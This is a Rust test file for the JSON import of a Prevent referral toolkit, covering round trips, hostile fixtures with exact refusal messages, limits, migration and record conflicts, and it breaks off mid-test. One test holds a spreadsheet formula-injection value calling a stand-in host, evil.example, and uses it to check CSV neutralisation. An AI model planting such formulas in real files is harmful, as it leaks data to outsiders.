//! Import of the JSON export (issue 6; DESIGN.md, Records; docs/decisions/0004-import.md).
//! Test names cite the requirement labels of 0004: REC-2 (import restores a record after
//! validation and migration), REC-3 (a bad file changes nothing: it is refused with a clear
//! message, and nothing panics), REC-4 (a final record is never replaced).
//!
//! - round trips: every form's export, imported, exports to the same bytes;
//! - a table of hand-made hostile files (`tests/fixtures/import/`), each with its exact message;
//! - limits (size before parsing, depth, text length, record count);
//! - migration through the (form, version) table, with a synthetic older version;
//! - conflicts with the records already here;
//! - fuzzing with proptest: arbitrary bytes, truncations, byte flips, deleted and replaced
//!   fields never panic, and whatever imports is a fixed point of export then import.

#[path = "fixtures/import/records.rs"]
mod records;

use prevent_core::export;
use prevent_core::form::FormSchema;
use prevent_core::import::{
    self, conflict, conflicts, parse, parse_with, resolve, Conflict, ErrorKind, Held, Here,
    Imported, Migration, Resolution,
};
use prevent_core::{Answer, Draft, DraftStatus};
use proptest::prelude::*;
use serde_json::{json, Value};

fn forms() -> &'static [FormSchema] {
    static FORMS: std::sync::OnceLock<Vec<FormSchema>> = std::sync::OnceLock::new();
    FORMS.get_or_init(records::forms)
}

fn known(forms: &[FormSchema]) -> Vec<&FormSchema> {
    forms.iter().collect()
}

fn import_all(bytes: &[u8]) -> Result<Imported, import::ImportError> {
    let f = forms();
    parse(bytes, &known(f), &records::ctx())
}

fn export_of(d: &Draft) -> String {
    let s = forms().iter().find(|s| s.id == d.form).unwrap();
    export::to_json_string(s, d, &records::ctx())
}

fn fixture(name: &str) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/import")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

// ---------------------------------------------------------------------------------------------
// Round trips (REC-2).

/// The answers a record holds that are not questions of its form, and are exported as fields
/// of their own (0004): written out here, independently of `export::form_fields`.
fn carried(form: &str) -> &'static [&'static str] {
    match form {
        "nrf" => &[],
        "pga" => &["dif.framework"],
        "plp" => &["dif.framework", "case.subject"],
        "plp-closure" => &["dif.framework", "plp.case", "plp.band_at_closure"],
        _ => &["dif.framework", "plp.case"],
    }
}

/// What an import of `d`'s export must give back: `d` itself, but for what the export does not
/// carry (0004): answers to questions hidden when it was exported, blank answers, and each
/// answer in the form the export writes it (a text without the spaces around it, a real date
/// as its boxes in plain digits, a whole number in plain digits).
fn as_exported(schema: &FormSchema, d: &Draft) -> Draft {
    use chrono::Datelike;
    use prevent_core::answers::DateParts;
    use prevent_core::form::QuestionKind;
    let ctx = records::ctx();
    let mut out = d.clone();
    out.answers.0.clear();
    for (id, a) in &d.answers.0 {
        let Some((_, q)) = schema.question(id) else {
            if carried(&d.form).contains(&id.as_str()) && !a.is_blank() {
                out.answers.set(id, a.clone());
            }
            continue;
        };
        if schema.visible_answer(id, &d.answers, &ctx).is_none() {
            continue;
        }
        let a = match (a, &q.kind) {
            (Answer::Text(t), QuestionKind::Number { .. }) => match t.trim().parse::<u64>() {
                Ok(n) => Answer::Text(n.to_string()),
                Err(_) => Answer::Text(t.trim().into()),
            },
            (Answer::Text(t), _) => Answer::Text(t.trim().into()),
            (Answer::Date(p), _) => match prevent_core::date::parse(p) {
                Ok(day) => Answer::Date(DateParts::new(
                    &day.day().to_string(),
                    &day.month().to_string(),
                    &format!("{:04}", day.year()),
                )),
                Err(_) => a.clone(),
            },
            _ => a.clone(),
        };
        out.answers.set(id, a);
    }
    out
}

#[test]
fn rec_2_every_form_exported_then_imported_is_the_same_draft_and_the_same_bytes() {
    let mut drafts_with_pages = 0;
    for sample in records::samples() {
        let schema = forms().iter().find(|s| s.id == sample.form).unwrap();
        let text = export_of(&sample.draft);
        let got = import_all(text.as_bytes()).unwrap_or_else(|e| panic!("{}: {e}", sample.name));
        assert!(!got.selection);
        assert_eq!(got.records.len(), 1);
        let r = &got.records[0];
        assert_eq!(export_of(&r.draft), text, "{}", sample.name);
        assert_eq!(r.migrated_from, None);
        // The draft itself: ids, form and version, times, status, finish, answers, pages passed,
        // audit trail, and the answers that are not questions (framework, case, subject type).
        let want = as_exported(schema, &sample.draft);
        assert_eq!(r.draft, want, "{}", sample.name);
        assert!(!r.draft.audit.is_empty(), "{}", sample.name);
        if r.draft.status == DraftStatus::InProgress && !r.draft.completed_pages.is_empty() {
            drafts_with_pages += 1;
        }
        assert_eq!(r.draft.is_locked(), sample.draft.is_locked());
        for id in carried(sample.form) {
            assert_eq!(
                r.draft.answers.get(id),
                sample.draft.answers.get(id),
                "{}: {id} comes back",
                sample.name
            );
        }
    }
    assert!(drafts_with_pages >= 4, "{drafts_with_pages}");
}

/// The only differences `as_exported` allows do occur in the samples: a hidden answer, spaces
/// around a text and a day typed as "03"; and nothing else differs.
#[test]
fn rec_2_what_an_export_does_not_carry_is_only_hidden_and_blank_answers_and_their_spelling() {
    let samples = records::samples();
    let done = samples
        .iter()
        .find(|s| s.name == "finished referral")
        .unwrap();
    let nrf = &forms()[0];
    let want = as_exported(nrf, &done.draft);
    let mut dropped: Vec<&str> = done
        .draft
        .answers
        .0
        .keys()
        .filter(|k| want.answers.get(k).is_none())
        .map(String::as_str)
        .collect();
    dropped.sort();
    assert_eq!(dropped, ["institution.name"], "hidden by subject.type");
    let changed: Vec<&str> = want
        .answers
        .0
        .iter()
        .filter(|(k, a)| done.draft.answers.get(k) != Some(a))
        .map(|(k, _)| k.as_str())
        .collect();
    assert_eq!(changed, ["concerns.description", "subject.dob"]);
    let mut same = want.clone();
    same.answers = done.draft.answers.clone();
    assert_eq!(same, done.draft, "nothing but answers differs");
}

#[test]
fn rec_2_pages_passed_audit_trail_case_link_framework_and_subject_type_come_back_as_they_were() {
    let ctx = records::ctx();
    let nrf = &forms()[0];
    // A referral in progress: 'referral-or-advice' and 'immediate-risk' passed with Continue;
    // the person page typed on but not passed; an optional page passed with nothing on it.
    let mut d = Draft::new(
        nrf,
        "5c0b0a8e-1f0b-4a51-8a6c-9d5e3b2f7a10",
        "2027-06-30T08:00:00Z",
    );
    let at = "2027-06-30T08:01:00Z";
    d.set_answer_at(nrf, "referral.intent", Answer::Text("referral".into()), at);
    assert!(!d
        .continue_from(nrf, "referral-or-advice", &ctx)
        .has_errors());
    d.set_answer_at(nrf, "risk.immediate", Answer::Text("no".into()), at);
    assert!(!d.continue_from(nrf, "immediate-risk", &ctx).has_errors());
    d.set_answer_at(nrf, "subject.type", Answer::Text("individual".into()), at);
    d.set_answer_at(nrf, "subject.forename", Answer::Text("Alex".into()), at);
    assert!(!d.continue_from(nrf, "complex-needs", &ctx).has_errors());
    let pages = ["complex-needs", "immediate-risk", "referral-or-advice"];
    assert!(d.completed_pages.iter().eq(pages));
    let got = import_all(export_of(&d).as_bytes()).unwrap();
    let back = &got.records[0].draft;
    assert_eq!(back, &d);
    assert!(back.completed_pages.iter().eq(pages));
    assert_eq!(back.audit.len(), 4);
    assert_eq!(
        prevent_core::flow::resume_page(nrf, back, &ctx).map(|p| p.id.as_str()),
        prevent_core::flow::resume_page(nrf, &d, &ctx).map(|p| p.id.as_str())
    );
    // Linked records keep their case; a PLP entry keeps the subject type the PGA gave it; every
    // officers' record keeps its framework.
    for sample in records::samples() {
        let r = import_all(export_of(&sample.draft).as_bytes()).unwrap();
        let a = &r.records[0].draft.answers;
        match sample.form {
            "plp-review" | "plp-closure" | "plp-panel" | "plp-fimu" | "plp-transfer" => {
                assert_eq!(
                    a.text("plp.case"),
                    Some(records::CASE_ID),
                    "{}",
                    sample.name
                )
            }
            _ => assert_eq!(a.get("plp.case"), None),
        }
        if sample.name == "half-filled PLP entry" {
            assert_eq!(a.text("case.subject"), Some("individual"));
        }
        if sample.form != "nrf" {
            assert_eq!(a.text("dif.framework"), Some("ctp-default version 1"));
        }
    }
}

#[test]
fn rec_2_a_gateway_assessment_exported_before_referral_id_imports_unlinked_but_other_fields_stay_required(
) {
    // Decision 0022: `referral_id` was added to the PGA while the form was in use. A PGA file
    // made before it has no such field: it imports, linked to no referral. A field every export
    // has always carried (a linked record's case_id) is still required.
    let strip = |form: &str, field: &str| -> Vec<u8> {
        let sample = records::samples()
            .into_iter()
            .find(|s| s.form == form)
            .expect("a sample of the form");
        let mut v: Value = serde_json::from_str(&export_of(&sample.draft)).unwrap();
        assert!(
            v.as_object_mut().unwrap().remove(field).is_some(),
            "{form} exports {field}"
        );
        serde_json::to_vec(&v).unwrap()
    };
    let got = import_all(&strip("pga", "referral_id")).expect("an older PGA file imports");
    assert_eq!(
        got.records[0]
            .draft
            .answers
            .get(prevent_core::pga_form::REFERRAL_FIELD),
        None
    );
    let refused = import_all(&strip("plp-review", "case_id")).unwrap_err();
    assert!(
        refused
            .to_string()
            .contains("its field 'case_id' is missing"),
        "{refused}"
    );
}

#[test]
fn rec_2_the_export_names_the_new_fields_of_each_form() {
    let ctx = records::ctx();
    for sample in records::samples() {
        let schema = forms().iter().find(|s| s.id == sample.form).unwrap();
        let v = export::to_json(schema, &sample.draft, &ctx);
        let o = v.as_object().unwrap();
        let mut keys: Vec<&str> = o.keys().map(String::as_str).collect();
        keys.retain(|k| !export::RECORD_FIELDS.contains(k));
        keys.sort();
        let want: &[&str] = match sample.form {
            "nrf" => &[],
            "pga" => &["dif_framework", "gateway_decision", "referral_id"],
            "plp" => &["dif_framework", "subject_type"],
            "plp-closure" => &["band_at_closure", "case_id", "dif_framework"],
            _ => &["case_id", "dif_framework"],
        };
        assert_eq!(keys, want, "{}", sample.name);
        let pages: Vec<&str> = sample
            .draft
            .completed_pages
            .iter()
            .map(String::as_str)
            .collect();
        assert_eq!(v["completed_pages"], json!(pages));
        assert_eq!(v["audit"], json!(sample.draft.audit));
        if want.contains(&"case_id") {
            assert_eq!(v["case_id"], json!(records::CASE_ID));
        }
        if want.contains(&"dif_framework") {
            assert_eq!(v["dif_framework"], json!("ctp-default version 1"));
        }
    }
    assert_eq!(
        prevent_core::plp_form::LINKED_FORMS,
        [
            "plp-review",
            "plp-closure",
            "plp-panel",
            "plp-fimu",
            "plp-transfer"
        ]
    );
}

#[test]
fn rec_2_the_subject_types_and_audit_field_ids_are_those_of_the_forms() {
    use prevent_core::form::QuestionKind;
    let f = forms();
    let pga = f.iter().find(|s| s.id == "pga").unwrap();
    let Some((_, q)) = pga.question("case.subject") else {
        panic!("the PGA asks case.subject")
    };
    let QuestionKind::Radios { choices, .. } = &q.kind else {
        panic!("radios")
    };
    let values: Vec<&str> = choices.iter().map(|c| c.value.as_str()).collect();
    assert_eq!(values, prevent_core::plp_form::SUBJECT_TYPES);
    assert!(
        f.iter()
            .find(|s| s.id == "plp")
            .unwrap()
            .question("case.subject")
            .is_none(),
        "not a question of the PLP form: exported as subject_type"
    );
    // Every question id fits what an audit entry's field may be.
    let ok = |id: &str| {
        !id.is_empty()
            && id.len() <= 200
            && id
                .bytes()
                .all(|b| matches!(b, b'a'..=b'z' | b'0'..=b'9' | b'.' | b'_' | b'-'))
    };
    for s in f {
        for p in &s.pages {
            for q in &p.questions {
                assert!(ok(&q.id), "{}: {}", s.id, q.id);
            }
        }
    }
}

#[test]
fn rec_2_a_selection_of_every_form_round_trips_to_the_same_bytes() {
    let f = forms();
    let samples = records::samples();
    let pairs: Vec<(&FormSchema, &Draft)> = samples
        .iter()
        .map(|s| (f.iter().find(|x| x.id == s.form).unwrap(), &s.draft))
        .collect();
    let text = export::selection_to_json_string(&pairs, &records::ctx());
    let got = parse(text.as_bytes(), &known(f), &records::ctx()).unwrap();
    assert!(got.selection);
    assert_eq!(got.records.len(), samples.len());
    let back: Vec<(&FormSchema, &Draft)> = got
        .records
        .iter()
        .map(|r| (f.iter().find(|x| x.id == r.draft.form).unwrap(), &r.draft))
        .collect();
    assert_eq!(
        export::selection_to_json_string(&back, &records::ctx()),
        text
    );
}

#[test]
fn rec_2_imported_answers_are_as_typed_and_the_rules_run_on_them() {
    let samples = records::samples();
    let half = samples
        .iter()
        .find(|s| s.name == "half-filled referral")
        .unwrap();
    let got = import_all(export_of(&half.draft).as_bytes()).unwrap();
    let r = &got.records[0];
    let a = &r.draft.answers;
    // A date that is not real comes back as its three boxes; words in a number box as words.
    assert_eq!(
        a.get("subject.dob"),
        Some(&Answer::Date(prevent_core::answers::DateParts::new(
            "31", "2", "2010"
        )))
    );
    assert_eq!(a.text("subject.age"), Some("about fifteen"));
    // The form's rules are run: what needs attention is reported, the draft still imports.
    let found: Vec<(&str, &str)> = r
        .report
        .errors()
        .map(|i| (i.rule_id.id(), i.path.as_str()))
        .collect();
    for want in [
        ("REF-4", "subject.dob"),
        ("REF-2", "subject.age"),
        ("FORM-1", "concerns.description"),
    ] {
        assert!(found.contains(&want), "{want:?} in {found:?}");
    }
    assert_eq!(r.draft.status, DraftStatus::InProgress);
    // A real date comes back as boxes that read as the same date.
    let done = samples
        .iter()
        .find(|s| s.name == "finished referral")
        .unwrap();
    let got = import_all(export_of(&done.draft).as_bytes()).unwrap();
    assert_eq!(
        got.records[0].draft.answers.get("subject.dob"),
        Some(&Answer::Date(prevent_core::answers::DateParts::new(
            "3", "4", "2010"
        )))
    );
    assert!(!got.records[0].report.has_errors());
    // Pages passed: as stored, not worked out from the answers.
    assert_eq!(r.draft.completed_pages, half.draft.completed_pages);
}

#[test]
fn rec_2_a_gateway_assessment_made_with_another_framework_is_refused_by_name() {
    let samples = records::samples();
    let pga = samples
        .iter()
        .find(|s| s.name == "final Gateway Assessment")
        .unwrap();
    let mut other = prevent_core::dif::default_framework();
    other.id = "force-x".into();
    other.sections[0].factors[0].id = "renamed".into();
    let schema = prevent_core::pga_form::schema(&other);
    let err = parse(
        export_of(&pga.draft).as_bytes(),
        &[&schema],
        &records::ctx(),
    )
    .unwrap_err();
    assert_eq!(err.kind, ErrorKind::Answer);
    assert!(
        err.to_string().starts_with("Record 1: answer 'dif.")
            && err.to_string().ends_with("is not a factor of the DIF framework in use here: it was made with another framework"),
        "{err}"
    );
}

// ---------------------------------------------------------------------------------------------
// Hand-made hostile files (REC-3): each with the exact message the user sees.

/// Which forms the app opening the file knows.
#[derive(Clone, Copy)]
enum App {
    /// The officers' app: every form.
    Officers,
    /// The partners' app: the referral only.
    Partners,
}

/// (file, app, outcome): `Ok(n)` for n records imported, `Err(message)`.
type FixtureCase = (&'static str, App, Result<usize, &'static str>);

const FIXTURES: &[FixtureCase] = &[
    ("valid-draft.json", App::Partners, Ok(1)),
    ("final-record.json", App::Partners, Ok(1)),
    ("byte-order-mark.json", App::Partners, Ok(1)),
    ("hidden-answer.json", App::Partners, Ok(1)),
    ("formula-text.json", App::Partners, Ok(1)),
    ("selection.json", App::Partners, Ok(2)),
    ("empty.json", App::Partners, Err("The file is empty")),
    ("truncated.json", App::Partners, Err("The file stops before its end (line 18): it may have been cut short when it was saved or copied")),
    ("not-json.csv", App::Partners, Err("The file is not JSON (line 1, column 1): choose the .json file the toolkit downloaded")),
    ("binary.png", App::Partners, Err("The file is not a text file (unreadable at byte 1): choose the .json file the toolkit downloaded")),
    ("deep-nesting.json", App::Partners, Err("The file is nested more than 16 levels deep (line 38): it is not an export of the toolkit")),
    ("duplicate-field.json", App::Partners, Err("The file has the field 'status' given twice (line 12): it is not an export of the toolkit")),
    ("number-out-of-range.json", App::Partners, Err("The file is not JSON (line 3, column 25): choose the .json file the toolkit downloaded")),
    ("not-an-object.json", App::Partners, Err("The file is not an export of the toolkit: it holds a list, not a record")),
    ("draft-envelope.json", App::Partners, Err("The file is not a record export of the toolkit: its format is 'prevent-toolkit/draft'")),
    ("newer-format-version.json", App::Partners, Err("Record 1: it was made by a newer version of the toolkit (format version 2; this one reads version 1): update the toolkit first")),
    ("marking-not-official-sensitive.json", App::Partners, Err("Record 1: its protective marking is 'OFFICIAL', not OFFICIAL-SENSITIVE")),
    ("unknown-form.json", App::Officers, Err("Record 1: it is a 'Channel panel' record (form 'channel'), which cannot be opened here")),
    ("pga-in-the-partners-app.json", App::Partners, Err("Record 1: it is a 'Prevent Gateway Assessment' record (form 'pga'), which cannot be opened here")),
    ("newer-form-version.json", App::Partners, Err("Record 1: it was made with version 2 of its form, newer than this toolkit's (version 1): update the toolkit first")),
    ("older-form-version.json", App::Partners, Err("Record 1: it was made with version 0 of its form, which this toolkit can no longer read")),
    ("unexpected-field.json", App::Partners, Err("Record 1: it has a field 'comment' that exports do not have")),
    ("missing-field.json", App::Partners, Err("Record 1: its field 'warnings' is missing")),
    ("record-id-not-generated.json", App::Partners, Err("Record 1: its record id '1234' is not one the toolkit makes")),
    ("record-id-upper-case.json", App::Partners, Err("Record 1: its record id '3F2A9C1B-6D4E-4F1A-9B2C-0123456789AB' is not one the toolkit makes")),
    ("start-time-not-a-time.json", App::Partners, Err("Record 1: its start time is not a date and time")),
    ("in-progress-with-reference.json", App::Partners, Err("Record 1: it is in progress but has a 'reference'")),
    // Final means final (issue 16, SEC-4): "finished" with four answers, as made by hand.
    ("forged-finished-referral.json", App::Partners, Err("Record 1: NRF-20270602-3F2A9C1B claims to be final but fails REF-3, REF-2, REF-1: Select yes if there is an immediate risk of harm, of a crime or of travel to a conflict zone; Enter your organisation; Enter a phone number or an email address so the Prevent team can contact you (and 7 more). Import the file as the toolkit downloaded it")),
    ("final-reference-mismatch.json", App::Partners, Err("Record 1: its reference 'NRF-20270602-00000000' does not match its record id and finish date")),
    ("date-not-a-date.json", App::Partners, Err("Record 1: answer 'subject.dob' is not a date")),
    ("answer-not-a-question.json", App::Partners, Err("Record 1: answer 'subject.nickname' is not a question of its form")),
    ("dotted-answer-name.json", App::Partners, Err("Record 1: answer 'subject.dob' is not a question of its form")),
    ("option-not-offered.json", App::Partners, Err("Record 1: answer 'subject.type' is 'spaceship', which is not one of its options")),
    ("checkboxes-as-text.json", App::Partners, Err("Record 1: answer 'concerns.type' should be a list of its options, not a text")),
    ("number-too-big.json", App::Partners, Err("Record 1: answer 'subject.age' is not a whole number")),
    ("control-characters.json", App::Partners, Err("Record 1: answer 'subject.n?ame?[31mxxxxxxxxxxxxxxxxxxxxxx…' is not a question of its form")),
    ("selection-empty.json", App::Partners, Err("The file holds no records")),
    ("selection-not-records.json", App::Partners, Err("Record 1: it is a text, not a record")),
    ("selection-same-id-twice.json", App::Partners, Err("Record 2: it has the same record id as record 1")),
    ("selection-second-record-bad.json", App::Partners, Err("Record 2: answer 'subject.dob' is not a date")),
    ("warning-not-a-warning.json", App::Partners, Err("Record 1: its warning 1 has no field 'section'")),
    // Pages passed with Continue: pages of the form, each once.
    ("completed-pages-not-a-list.json", App::Partners, Err("Record 1: its completed pages are not a list")),
    ("completed-pages-not-page-ids.json", App::Partners, Err("Record 1: its completed pages should be page ids, not a number")),
    ("completed-pages-unknown-page.json", App::Partners, Err("Record 1: its completed pages have 'case', which is not a page of its form")),
    ("completed-pages-twice.json", App::Partners, Err("Record 1: its completed pages have 'referral-or-advice' twice")),
    // The audit trail: entries of four texts, a time, an answer id and who.
    ("audit-not-a-list.json", App::Partners, Err("Record 1: its audit trail is not a list")),
    ("audit-entry-not-an-entry.json", App::Partners, Err("Record 1: entry 1 of its audit trail is a text, not an object")),
    ("audit-entry-missing-field.json", App::Partners, Err("Record 1: entry 2 of its audit trail has no field 'by'")),
    ("audit-entry-unexpected-field.json", App::Partners, Err("Record 1: entry 1 of its audit trail has a field 'ip' that exports do not have")),
    ("audit-value-not-a-text.json", App::Partners, Err("Record 1: entry 1 of its audit trail has a field 'value' that is not a text")),
    ("audit-time-not-a-time.json", App::Partners, Err("Record 1: entry 2 of its audit trail has a time that is not a date and time")),
    ("audit-field-not-an-answer-id.json", App::Partners, Err("Record 1: entry 1 of its audit trail names a field 'Subject DOB' that is not an answer id")),
    ("audit-by-blank.json", App::Partners, Err("Record 1: entry 1 of its audit trail does not say who made the change")),
    // The answers that are not questions: the case link, the framework, the subject type.
    ("linked-record.json", App::Officers, Ok(1)),
    ("case-id-not-a-record-id.json", App::Officers, Err("Record 1: its case id is 'case-1', not the record id of a PLP case")),
    ("case-id-missing.json", App::Officers, Err("Record 1: its field 'case_id' is missing")),
    ("case-id-on-a-referral.json", App::Partners, Err("Record 1: it has a field 'case_id' that exports do not have")),
    ("dif-framework-not-a-name.json", App::Officers, Err("Record 1: its DIF framework is 'latest', not the name and version of a DIF framework")),
    ("subject-type-not-offered.json", App::Officers, Err("Record 1: its subject type is 'spaceship', not individual, institution or expression")),
];

#[test]
fn rec_3_each_hostile_file_is_refused_with_its_message() {
    let all = forms();
    let nrf = prevent_core::nrf::schema();
    let mut names: Vec<String> = std::fs::read_dir(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import"),
    )
    .unwrap()
    .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
    .filter(|n| !n.ends_with(".rs") && !n.ends_with(".md"))
    .collect();
    names.sort();
    let mut listed: Vec<String> = FIXTURES.iter().map(|(n, _, _)| n.to_string()).collect();
    listed.sort();
    assert_eq!(
        names, listed,
        "every fixture file is in the table, and only those"
    );
    let mut wrong = Vec::new();
    for (name, app, want) in FIXTURES {
        let k: Vec<&FormSchema> = match app {
            App::Officers => known(all),
            App::Partners => vec![&nrf],
        };
        let got = parse(&fixture(name), &k, &records::ctx());
        match (got, want) {
            (Ok(i), Ok(n)) if i.records.len() == *n => {}
            (Err(e), Err(m)) if e.to_string() == *m => {}
            (Ok(i), _) => wrong.push(format!("{name}: imported {} records", i.records.len())),
            (Err(e), _) => wrong.push(format!("{name}: {e}")),
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn rec_3_a_file_read_as_text_gets_what_its_bytes_get() {
    // `parse_text` (for a file the browser has read as text) answers as `parse` does.
    let all = forms();
    let k = known(all);
    let mut read = 0;
    for (name, _, _) in FIXTURES {
        let bytes = fixture(name);
        let Ok(text) = std::str::from_utf8(&bytes) else {
            continue;
        };
        read += 1;
        let (a, b) = (
            parse(&bytes, &k, &records::ctx()),
            import::parse_text(text, &k, &records::ctx()),
        );
        assert_eq!(a, b, "{name}");
    }
    assert_eq!(read, FIXTURES.len() - 1, "all but the binary one");
    let big = "x".repeat(import::MAX_BYTES + 1);
    assert_eq!(
        import::parse_text(&big, &k, &records::ctx())
            .unwrap_err()
            .kind,
        ErrorKind::TooLarge
    );
}

#[test]
fn rec_3_formula_text_imports_as_typed_and_the_csv_export_neutralises_it() {
    let nrf = prevent_core::nrf::schema();
    let got = parse(&fixture("formula-text.json"), &[&nrf], &records::ctx()).unwrap();
    let d = &got.records[0].draft;
    assert_eq!(
        d.answers.text("subject.forename"),
        Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
    );
    let csv = prevent_core::csv_export::to_csv(&nrf, std::slice::from_ref(d), &records::ctx());
    assert!(
        csv.contains("'=HYPERLINK") && csv.contains("'+SUM"),
        "{csv}"
    );
    assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",+SUM"));
}

#[test]
fn rec_3_an_answer_to_a_question_hidden_by_the_others_is_kept_but_not_exported() {
    let nrf = prevent_core::nrf::schema();
    let got = parse(&fixture("hidden-answer.json"), &[&nrf], &records::ctx()).unwrap();
    let d = &got.records[0].draft;
    assert!(d.answers.text("institution.name").is_some());
    let again = export::to_json(&nrf, d, &records::ctx());
    assert!(again["answers"].get("institution").is_none());
}

// ---------------------------------------------------------------------------------------------
// Limits (REC-3).

#[test]
fn rec_3_a_file_over_5_mb_is_refused_before_it_is_parsed() {
    // Not JSON at all: the size is checked first.
    let big = vec![b'x'; import::MAX_BYTES + 1];
    let e = import_all(&big).unwrap_err();
    assert_eq!(e.kind, ErrorKind::TooLarge);
    assert_eq!(
        e.to_string(),
        "The file is too large (5.0 MB): the toolkit imports files of up to 5 MB"
    );
    // A valid export padded to just under the limit still imports.
    let mut text = String::from_utf8(fixture("valid-draft.json")).unwrap();
    text.push_str(&" ".repeat(import::MAX_BYTES - text.len()));
    assert!(import_all(text.as_bytes()).is_ok());
}

#[test]
fn rec_3_huge_texts_long_field_names_and_too_many_records_are_refused() {
    let base: Value = serde_json::from_slice(&fixture("valid-draft.json")).unwrap();
    let mut long = base.clone();
    long["answers"]["subject"]["forename"] = json!("x".repeat(import::MAX_TEXT_CHARS + 1));
    let e = import_all(long.to_string().as_bytes()).unwrap_err();
    assert_eq!(
        e.to_string(),
        "The file has a text longer than 100,000 characters (line 1): it is not an export of the toolkit"
    );
    assert_eq!(e.kind, ErrorKind::TooLong);
    // At the limit: read (and then refused or not by the form, not by the reader).
    long["answers"]["subject"]["forename"] = json!("é".repeat(import::MAX_TEXT_CHARS));
    assert!(import_all(long.to_string().as_bytes()).is_ok());
    let mut key = base.clone();
    key["answers"][&"k".repeat(201)] = json!("v");
    assert_eq!(
        import_all(key.to_string().as_bytes()).unwrap_err().to_string(),
        "The file has a field name longer than 200 characters (line 1): it is not an export of the toolkit"
    );
    // 1,001 records.
    let records: Vec<Value> = (0..=import::MAX_RECORDS)
        .map(|i| {
            let mut r = base.clone();
            r["record_id"] = json!(format!("00000000-0000-4000-8000-{i:012}"));
            r
        })
        .collect();
    let sel = json!({"format": "prevent-toolkit/records", "format_version": 1, "protective_marking": "OFFICIAL-SENSITIVE", "records": records});
    assert_eq!(
        import_all(sel.to_string().as_bytes())
            .unwrap_err()
            .to_string(),
        "The file holds 1,001 records: at most 1,000 can be imported at once"
    );
    // 1,000 is fine.
    let mut sel = sel;
    sel["records"].as_array_mut().unwrap().pop();
    assert_eq!(
        import_all(sel.to_string().as_bytes())
            .unwrap()
            .records
            .len(),
        1000
    );
}

#[test]
fn rec_3_nesting_is_refused_before_the_parser_recurses() {
    // 100,000 levels would overflow a recursive parser's stack.
    let deep = "[".repeat(100_000) + &"]".repeat(100_000);
    let e = import_all(deep.as_bytes()).unwrap_err();
    assert_eq!(e.kind, ErrorKind::TooDeep);
    // Brackets inside texts do not count.
    let mut v: Value = serde_json::from_slice(&fixture("valid-draft.json")).unwrap();
    v["answers"]["subject"]["forename"] = json!("[[[[[[[[[[[[[[[[[[[[{{{{{{{{{{{{{{{{\\\"");
    assert!(import_all(v.to_string().as_bytes()).is_ok());
}

// ---------------------------------------------------------------------------------------------
// Migration (REC-2): the (form, version) table, tested with a synthetic version 0 of the
// referral in which the date of birth was called `subject.date_of_birth`. No such version was
// ever published: the real table is empty (0004).

fn rename_dob(record: &mut serde_json::Map<String, Value>) -> Result<(), String> {
    let Some(Value::Object(subject)) = record.get_mut("answers").and_then(|a| a.get_mut("subject"))
    else {
        return Ok(());
    };
    if let Some(v) = subject.remove("date_of_birth") {
        if !v.is_string() {
            return Err("answer 'subject.date_of_birth' is not a date".into());
        }
        subject.insert("dob".into(), v);
    }
    Ok(())
}

const SYNTHETIC: &[Migration] = &[Migration {
    form: "nrf",
    from: 0,
    step: rename_dob,
}];

#[test]
fn rec_2_a_record_of_an_older_form_version_is_migrated_through_the_table() {
    assert!(
        import::MIGRATIONS.is_empty(),
        "update this test and 0004 when a migration lands"
    );
    let nrf = prevent_core::nrf::schema();
    let mut v0: Value = serde_json::from_slice(&fixture("valid-draft.json")).unwrap();
    v0["form"]["version"] = json!(0);
    let dob = v0["answers"]["subject"]
        .as_object_mut()
        .unwrap()
        .remove("dob")
        .unwrap();
    v0["answers"]["subject"]["date_of_birth"] = dob;
    let text = v0.to_string();
    // Without the step: refused, by name.
    assert_eq!(
        parse(text.as_bytes(), &[&nrf], &records::ctx())
            .unwrap_err()
            .to_string(),
        "Record 1: it was made with version 0 of its form, which this toolkit can no longer read"
    );
    // With it: migrated, and it exports as version 1.
    let got = parse_with(text.as_bytes(), &[&nrf], &records::ctx(), SYNTHETIC).unwrap();
    let r = &got.records[0];
    assert_eq!(r.migrated_from, Some(0));
    assert_eq!(r.draft.form_version, 1);
    assert!(matches!(
        r.draft.answers.get("subject.dob"),
        Some(Answer::Date(_))
    ));
    let out = export::to_json(&nrf, &r.draft, &records::ctx());
    assert_eq!(out["form"]["version"], json!(1));
    assert_eq!(out["answers"]["subject"]["dob"], json!("2010-04-03"));
    // A step that refuses the record says why.
    v0["answers"]["subject"]["date_of_birth"] = json!(20100403);
    assert_eq!(
        parse_with(
            v0.to_string().as_bytes(),
            &[&nrf],
            &records::ctx(),
            SYNTHETIC
        )
        .unwrap_err()
        .to_string(),
        "Record 1: answer 'subject.date_of_birth' is not a date"
    );
}

// ---------------------------------------------------------------------------------------------
// Conflicts with the records here (REC-4).

const NEW_ID: &str = "2c5ea4c0-4067-41fa-9d8c-8c2a5fa8d7e1";

/// What is here, known from the list only: id and whether final (`Held::listed`).
fn listed(pairs: &[(&str, bool)]) -> Here {
    Here {
        records: pairs.iter().map(|(k, v)| Held::listed(k, *v)).collect(),
        tombstones: Vec::new(),
    }
}

fn nrf() -> &'static FormSchema {
    forms().iter().find(|s| s.id == "nrf").unwrap()
}

#[test]
fn rec_4_each_imported_record_is_new_the_same_as_one_here_or_the_same_as_a_final_one() {
    let got = import_all(&fixture("selection.json")).unwrap();
    let ids: Vec<String> = got.records.iter().map(|r| r.draft.id.clone()).collect();
    let k = known(forms());
    assert_eq!(
        conflicts(&got, &k, &Here::default()).unwrap(),
        vec![Conflict::New, Conflict::New]
    );
    assert_eq!(
        conflicts(&got, &k, &listed(&[(&ids[0], false), (&ids[1], true)])).unwrap(),
        vec![Conflict::Same, Conflict::SameFinal]
    );
    assert_eq!(Conflict::New.choices(), &[Resolution::Add]);
    assert_eq!(
        Conflict::Same.choices(),
        &[Resolution::KeepBoth, Resolution::Replace]
    );
    assert_eq!(Conflict::SameFinal.choices(), &[Resolution::KeepBoth]);
}

#[test]
fn rec_4_a_final_record_here_is_never_replaced_and_keeping_both_gives_the_copy_a_new_id() {
    let got = import_all(&fixture("final-record.json")).unwrap();
    let d = &got.records[0].draft;
    assert!(d.is_locked());
